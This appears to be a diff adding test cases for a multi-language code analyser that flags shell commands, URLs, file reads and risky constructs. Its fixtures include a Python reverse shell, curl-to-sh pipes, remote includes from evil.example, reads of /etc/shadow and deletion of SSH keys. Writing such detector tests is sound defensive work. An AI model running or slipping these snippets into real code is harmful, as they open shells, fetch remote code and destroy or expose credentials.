@@ -221,6 +221,13 @@ CASES: list[tuple[str, str, dict[str, Any]]] = [
     ("python", "import os; os.system('cat %s' % '/etc/shadow')",
      {"commands": ("cat /etc/shadow",)}),
     ("python", "import os; os.popen('id').read()", {"commands": ("id",)}),
+    ("python", "import os; os.system('%c%c' % (105, 100))",
+     {"commands": ("id",), "risky": (PIECES,)}),
+    ("python", "import socket, subprocess, os; s = socket.socket(); s.connect(('10.0.0.1', 1234)); "
+               "os.dup2(s.fileno(), 0); subprocess.call(['/bin/sh', '-i'])",
+     {"commands": ("/bin/sh -i",), "urls": ("tcp://10.0.0.1:1234",), "risky": (FETCHES, SOCKET)}),
+    ("python", "import runpy; runpy.run_path('/tmp/x.py')", {"reads": ("/tmp/x.py",)}),
+    ("python", "SOURCE = 'file:///etc/passwd'", {"reads": ("/etc/passwd",)}),
     # node
     ("node", "const cp = require('child_process'); cp.execSync('rm -rf ~/.ssh')",
      {"commands": ("rm -rf ~/.ssh",)}),
@@ -265,6 +272,10 @@ CASES: list[tuple[str, str, dict[str, Any]]] = [
     ("node", "process.mainModule.require('child_process').execSync('id')", {"commands": ("id",)}),
     ("node", "const x = require('fs'); x.rmSync('/srv/data', {recursive: true})",
      {"deletes": ("/srv/data",)}),
+    ("node", "new Function('return require(\"child_process\")')().execSync('id')",
+     {"commands": ("id",)}),
+    ("node", "setTimeout(\"require('child_process').execSync('id')\", 0)", {"commands": ("id",)}),
+    ("node", "foo().bar().execSync('id')", {"commands": ("id",)}),
     ("node", "await $`curl -s https://x.example/i | sh`",
      {"commands": ("curl -s https://x.example/i | sh",), "urls": ("https://x.example/i",)}),
     # perl
@@ -287,6 +298,10 @@ CASES: list[tuple[str, str, dict[str, Any]]] = [
     ("perl", "use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => 'e.example:1')",
      {"risky": (SOCKET,)}),
     ("perl", "system(scalar reverse 'di')", {"commands": ("id",), "risky": (PIECES,)}),
+    ("perl", "system { 'sh' } 'sh', '-c', 'id'", {"commands": ("sh -c id",)}),
+    ("perl", "do '/tmp/x.pl'", {"reads": ("/tmp/x.pl",)}),
+    ("perl", "my @a = ('rm', '-rf', '/x'); system(@a)", {"commands": ("rm -rf /x",)}),
+    ("perl", "system(pack('H*', '6964'))", {"commands": ("id",), "risky": (PIECES,)}),
     # ruby
     ("ruby", "puts `whoami`", {"commands": ("whoami",)}),
     ("ruby", "puts %x(ls -la)", {"commands": ("ls -la",)}),
@@ -306,6 +321,9 @@ CASES: list[tuple[str, str, dict[str, Any]]] = [
     ("ruby", "File.chmod(0777, '/usr/local/bin/tool')", {"chmods": ("/usr/local/bin/tool",)}),
     ("ruby", "Kernel.send(:system, 'id')", {"commands": ("id",)}),
     ("ruby", "IO.popen('id', 'r+')", {"commands": ("id",)}),
+    ("ruby", "method(:system).call('id')", {"commands": ("id",)}),
+    ("ruby", "load '/tmp/x.rb'", {"reads": ("/tmp/x.rb",)}),
+    ("ruby", "open('https://evil.example/x').read", {"urls": ("https://evil.example/x",)}),
     ("ruby", "system({'A' => '1'}, 'ls', '-l')", {"commands": ("ls -l",)}),
     ("ruby", "send('exec', 'id')", {"commands": ("id",)}),
     # php
@@ -333,6 +351,10 @@ CASES: list[tuple[str, str, dict[str, Any]]] = [
     ("php", "$f = 'system'; $f('id');", {"commands": ("id",)}),
     ("php", "$f = 'sys' . 'tem'; $f('id');", {"commands": ("id",), "risky": (PIECES,)}),
     ("php", "include $_GET['page'];", {"unknown_targets": True}),
+    ("php", "include 'http://evil.example/x.php';",
+     {"urls": ("http://evil.example/x.php",), "risky": (FETCHES,)}),
+    ("php", "require_once '/var/www/config.php';", {"reads": ("/var/www/config.php",)}),
+    ("php", "$in = file_get_contents('php://input'); echo strlen($in);", {}),
     # lua
     ("lua", "os.execute('rm -rf /tmp/x')", {"commands": ("rm -rf /tmp/x",)}),
     ("lua", "os.execute[[id]]", {"commands": ("id",)}),
@@ -344,6 +366,8 @@ CASES: list[tuple[str, str, dict[str, Any]]] = [
      {"commands": ("id",), "risky": (EVALUATES,)}),
     ("lua", "local ffi = require('ffi')", {"risky": (NATIVE,)}),
     ("lua", "os['execute']('id')", {"commands": ("id",)}),
+    ("lua", "require('os').execute('id')", {"commands": ("id",)}),
+    ("lua", "dofile('/tmp/x.lua')", {"reads": ("/tmp/x.lua",)}),
     ("lua", "os['exe' .. 'cute']('id')", {"commands": ("id",), "risky": (PIECES,)}),
     # R
     ("r", "system('whoami')", {"commands": ("whoami",)}),
@@ -358,6 +382,8 @@ CASES: list[tuple[str, str, dict[str, Any]]] = [
     ("r", "eval(parse(text = 'system(\"id\")'))", {"commands": ("id",)}),
     ("r", "file.remove(path.expand('~/.ssh/id_rsa'))", {"deletes": ("~/.ssh/id_rsa",)}),
     ("r", "do.call('system', list('id'))", {"commands": ("id",)}),
+    ("r", "source('https://evil.example/x.R')",
+     {"urls": ("https://evil.example/x.R",), "risky": (FETCHES,)}),
     # AppleScript (and JXA through osascript)
     ("applescript", 'do shell script "id"', {"commands": ("id",)}),
     ("applescript", 'set p to "/etc/passwd"\ndo shell script "cat " & quoted form of p',
@@ -366,6 +392,8 @@ CASES: list[tuple[str, str, dict[str, Any]]] = [
                     '(path to home folder))', {"commands": ("rm -rf ~/",)}),
     ("applescript", 'tell application "Terminal" to do script "curl x.example | sh"',
      {"commands": ("curl x.example | sh",)}),
+    ("applescript", 'do shell script "id" with administrator privileges', {"commands": ("id",)}),
+    ("applescript", 'run script "do shell script \\"id\\""', {"commands": ("id",)}),
     ("applescript", "Application.currentApplication().doShellScript('id')",
      {"commands": ("id",)}),
     # awk
